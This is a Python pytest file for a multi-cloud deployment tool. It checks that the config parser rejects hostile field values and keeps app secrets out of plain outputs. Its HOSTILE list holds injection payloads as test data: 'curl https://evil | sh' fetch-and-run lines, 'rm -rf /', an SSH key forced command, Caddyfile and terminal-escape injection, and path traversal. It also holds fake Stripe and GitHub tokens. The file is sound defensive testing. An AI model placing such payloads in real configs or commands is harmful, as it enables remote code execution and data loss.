"""Hostile and careless config (issue 11): every string is typed for where it lands, refused
at its config path without its value repeated, and the application's own secrets travel
only through secret channels.

The artifact side — each renderer escaping by its own grammar, proven with the real tools —
is tests/test_render_escaping.py and tests/integration/test_artifact_grammar.py.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from multicloud import infra
from multicloud.components._lib.grammars import control_problem, credential_reason, printable
from multicloud.components._lib.networks import reaches_everyone
from multicloud.infra.offline import plan
from multicloud.stacks.loader import ConfigError, RawConfig, parse
from tests.aws_plans import aws_config
from tests.conftest import KEY, ROOT, base_config, one, write_stack
from tests.do_plans import APP, app_platform_config

CREDENTIALS = {"ssh_private_key": "k", "hetzner_s3_access_key": "a", "hetzner_s3_secret_key": "b"}


def problems(config: dict[str, Any]) -> list[tuple[str, str]]:
    try:
        parse(RawConfig(config | CREDENTIALS, frozenset(CREDENTIALS)))
    except ConfigError as err:
        return err.problems
    return []


def with_value(path: str, value: Any) -> dict[str, Any]:
    config = base_config("prod")
    *parents, leaf = path.split(".")
    node: Any = config
    for part in parents:
        node = node[part]
    node[leaf] = value
    return config


# --- the attacks the issue names, each refused at its path -------------------------------------------

HOSTILE = [
    ("admin.acme_email", "ops@example.com\n}\nhttp://:80 {\n\troot * /data\n\tfile_server browse\n}\n(x) {"),
    ("admin.acme_email", "ops@example.com {"),
    ("admin.ssh_public_keys", [KEY + '\ncommand="curl evil|sh" ssh-ed25519 AAAA x']),
    ("admin.ssh_public_keys", ["ssh-ed25519 anything"]),
    ("admin.ssh_public_keys", ["ssh-ed25519 " + "c3NoLXJzYQ==" + " wrong-type-inside"]),
    ("services.api.image", "ghcr.io/acme/api:${TAG:-latest}"),
    ("services.api.image", "ghcr.io/acme/api:1; curl https://evil | sh"),
    ("services.api.image", "ghcr.io/acme/api:1\x1b[2J"),
    ("services.api.health_path", "/health check"),
    ("services.api.health_path", "/{env.HOME}"),
    ("services.api.env", {"FOO\n": "x"}),
    ("services.api.env", {"FOO": "a\x00b"}),
    ("services.api.env", {"FOO": "a\rb"}),
    ("services.api.command", ["sh", "-c", "true\nrm -rf /"]),
    ("services.web.branch", "main[/]"),
    ("services.web.branch", "main\x1b]8;;https://evil\x07"),
    ("services.web.output_dir", "out/ s3://x --acl public-read; curl https://evil | sh; true "),
    ("services.web.output_dir", "/"),
    ("services.web.output_dir", "../.."),
    ("services.web.root_dir", "a/../../b"),
    ("budget", {"monthly": float("inf")}),
    ("budget", {"monthly": float("nan")}),
    ("usage", {"egress_gb": float("inf")}),
]


@pytest.mark.parametrize(("path", "value"), HOSTILE, ids=lambda v: printable(str(v))[:40])
def test_a_hostile_value_is_refused_at_its_path_without_being_repeated(path, value):
    found = problems(with_value(path, value))
    assert found, f"{path} accepted a hostile value"
    top = path.split(".")[0]
    assert any(p.startswith(top) for p, _ in found), found
    shown = json.dumps(found)
    for text in (
        [value] if isinstance(value, str) else [*map(str, value), *map(str, getattr(value, "values", list)())]
    ):
        if len(text) > 12 and "ssh-ed25519" not in text:
            assert text not in shown


@pytest.mark.parametrize(
    "cidrs",
    [["0.0.0.0/1", "128.0.0.0/1"], ["::/1", "8000::/1"], ["::ffff:0:0/96"], ["0.0.0.0/0"], ["64:ff9b::/96"]],
)
def test_ssh_open_to_the_whole_internet_by_any_spelling_is_refused(cidrs):
    found = problems(with_value("admin.cidrs", cidrs))
    assert (
        "admin.cidrs",
        "opens SSH to the whole internet; use your office/VPN CIDR, or set admin.allow_world_ssh: true",
    ) in found


def test_half_the_internet_is_not_the_whole():
    assert not reaches_everyone(["0.0.0.0/1"]) and not reaches_everyone(["::ffff:0:0/97", "203.0.113.0/24"])


def test_a_name_with_a_newline_cannot_forge_an_error_line():
    config = base_config("prod")
    config["services"]["db\nmulticloud:admin: forged"] = config["services"].pop("cache")
    with pytest.raises(ConfigError) as err:
        parse(RawConfig(config | CREDENTIALS, frozenset(CREDENTIALS)))
    lines = err.value.lines()
    assert all("\n" not in line for line in lines)
    assert any(line.startswith("multicloud:services.db\\nmulticloud:admin: forged:") for line in lines)


# --- every string field refuses control characters -----------------------------------------------------

STRING_FIELDS = [
    "domain",
    "admin.acme_email",
    "services.api.image",
    "services.api.health_path",
    "services.web.repo",
    "services.web.branch",
    "services.web.build_command",
    "services.web.output_dir",
    "services.web.root_dir",
    "services.uploads.lifecycle.prefix",
    "hosts.main.location",
    "dns.zone_id",
]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    field=st.sampled_from(STRING_FIELDS),
    before=st.text(alphabet="abc./-", max_size=5),
    control=st.sampled_from(["\n", "\r", "\x00", "\x1b", "\t", "\x7f", "\u2028", "\u202e", "\u200b", "\x85"]),
)
def test_no_string_field_takes_a_control_character(field, before, control):
    config = base_config("prod")
    *parents, leaf = field.split(".")
    node: Any = config
    for part in parents:
        node = node[part]
    node[leaf] = f"{node.get(leaf) or 'x'}{before}{control}"
    found = problems(config)
    assert found and all("\n" not in p and "\n" not in m for p, m in found)
    assert control_problem(node[leaf])


# --- the application's own secrets -------------------------------------------------------------------------

STRIPE = "sk_live_51HzTOPSECRETvalueNOBODYshouldSEE"


def _with_app_secret(tmp_path: Path, config: dict[str, Any], service: str, stack: str = "prod") -> Any:
    config = copy.deepcopy(config)
    config["services"][service]["secrets"] = ["STRIPE_SECRET_KEY"]
    real = infra.offline.offline_config

    def with_value(raw: Any, spec: Any) -> Any:
        values, secrets = real(raw, spec)
        values["multicloud:secrets"] = json.dumps({"STRIPE_SECRET_KEY": STRIPE})
        return values, secrets

    path = write_stack(tmp_path / f"Pulumi.{stack}.yaml", config)
    with mock.patch.object(infra.offline, "offline_config", with_value):
        return plan(path, stack, project_dir=ROOT)


def _nowhere_in_plain_inputs(result: Any) -> None:
    for reg in result.registrations:
        assert STRIPE not in json.dumps(reg.inputs), (reg.type, reg.name)


def test_an_app_secret_reaches_a_host_container_through_its_0600_env_file(tmp_path):
    from tests.helpers import bundle, env_of

    result = _with_app_secret(tmp_path, base_config("prod"), "api")
    assert env_of(result, "main", "api")["STRIPE_SECRET_KEY"] == STRIPE
    files = bundle(result, "main")
    assert files["env/api.env"].mode == 0o600
    assert STRIPE not in files["compose.yaml"].text
    _nowhere_in_plain_inputs(result)


def test_an_app_secret_reaches_an_aws_task_through_ssm(tmp_path):
    result = _with_app_secret(tmp_path, aws_config("dev"), "api", "dev")
    parameter = one(result, "aws:ssm/parameter:Parameter", "api-stripe-secret-key")
    assert parameter.raw_inputs["value"] == STRIPE and parameter.inputs["value"] == "[secret]"
    task = one(result, "aws:ecs/taskDefinition:TaskDefinition", "api-task")
    (container,) = json.loads(task.raw_inputs["containerDefinitions"])
    assert "STRIPE_SECRET_KEY" in {s["name"] for s in container["secrets"]}
    assert "STRIPE_SECRET_KEY" not in {e["name"] for e in container["environment"]}
    _nowhere_in_plain_inputs(result)


def test_an_app_secret_reaches_app_platform_as_a_secret_variable(tmp_path):
    result = _with_app_secret(tmp_path, app_platform_config("prod"), "api")
    envs = one(result, APP, "api-app").raw_inputs["spec"]["services"][0]["envs"]
    (stripe,) = [e for e in envs if e["key"] == "STRIPE_SECRET_KEY"]
    assert (stripe["type"], stripe["value"]) == ("SECRET", STRIPE)
    _nowhere_in_plain_inputs(result)


def test_a_declared_secret_without_a_value_is_a_config_error():
    config = base_config("prod")
    config["services"]["api"]["secrets"] = ["STRIPE_SECRET_KEY"]
    raw = RawConfig(config | CREDENTIALS | {"secrets": {"OTHER": {"secure": "v1:x"}}}, frozenset(CREDENTIALS))
    with pytest.raises(ConfigError) as err:
        parse(raw)
    assert err.value.lines() == [
        (
            "multicloud:services.api.secrets[0]: STRIPE_SECRET_KEY has no value; "
            "pulumi config set --path --secret multicloud:secrets.STRIPE_SECRET_KEY …"
        )
    ]


def test_secret_values_must_be_secrets():
    config = base_config("prod")
    config["services"]["api"]["secrets"] = ["STRIPE_SECRET_KEY"]
    raw = RawConfig(config | CREDENTIALS | {"secrets": {"STRIPE_SECRET_KEY": STRIPE}}, frozenset(CREDENTIALS))
    with pytest.raises(ConfigError) as err:
        parse(raw)
    assert err.value.lines() == [
        "multicloud:secrets: is a credential and must be a secret: pulumi config set --secret multicloud:secrets ..."
    ]
    assert STRIPE not in str(err.value)


@pytest.mark.parametrize(
    ("name", "value", "credential"),
    [
        ("STRIPE_SECRET_KEY", STRIPE, True),
        ("GITHUB_TOKEN", "ghp_0123456789abcdefghijABCDEFGHIJ012345", True),
        ("SENTRY_DSN", "https://abc@o1.ingest.sentry.io/1", True),
        ("SIGNING", "q8Zr2LmW7xKp4NvB9sTc3YhJ6dGf1AeU", True),
        ("LOG_LEVEL", "info", False),
        ("PUBLIC_URL", "https://example.com/a/b/c/d/e/f/g/h/i/j", False),
        ("NODE_ENV", "production", False),
    ],
)
def test_credential_looking_env_values_are_named(name, value, credential):
    assert (credential_reason(name, value) is not None) is credential


def test_an_app_secret_appears_in_no_plan_render_or_cost_output(tmp_path, capsys):
    from multicloud.infra.cli import main

    config = copy.deepcopy(base_config("prod"))
    config["services"]["api"]["secrets"] = ["STRIPE_SECRET_KEY"]
    path = write_stack(tmp_path / "Pulumi.prod.yaml", config)
    real = infra.offline.offline_config

    def with_value(raw: Any, spec: Any) -> Any:
        values, secrets = real(raw, spec)
        values["multicloud:secrets"] = json.dumps({"STRIPE_SECRET_KEY": STRIPE})
        return values, secrets

    out = tmp_path / "rendered"
    with mock.patch.object(infra.offline, "offline_config", with_value):
        for argv in (
            ["plan", "--config", str(path)],
            ["plan", "--config", str(path), "--json"],
            ["render", "--config", str(path), "--out", str(out)],
            ["cost", "--config", str(path), "--format", "json"],
        ):
            assert main(argv) == 0, argv
    printed = capsys.readouterr()
    assert STRIPE not in printed.out + printed.err
    rendered = {p: p.read_text() for p in out.rglob("*") if p.is_file()}
    assert rendered and not [p for p, text in rendered.items() if STRIPE in text]
    assert "STRIPE_SECRET_KEY=<secret>" in rendered[out / "main" / "release" / "env" / "api.env"]


def test_validate_names_a_credential_in_plain_env_without_repeating_it(tmp_path, capsys):
    from multicloud.infra.cli import main

    config = base_config("prod")
    config["services"]["api"]["env"] = {"STRIPE_SECRET_KEY": STRIPE, "LOG_LEVEL": "info"}
    assert main(["validate", "--config", str(write_stack(tmp_path / "Pulumi.prod.yaml", config))]) == 0
    err = capsys.readouterr().err
    assert err.startswith("warning: multicloud:services.api.env.STRIPE_SECRET_KEY: looks like a credential")
    assert "secrets: [STRIPE_SECRET_KEY]" in err and STRIPE not in err and "LOG_LEVEL" not in err
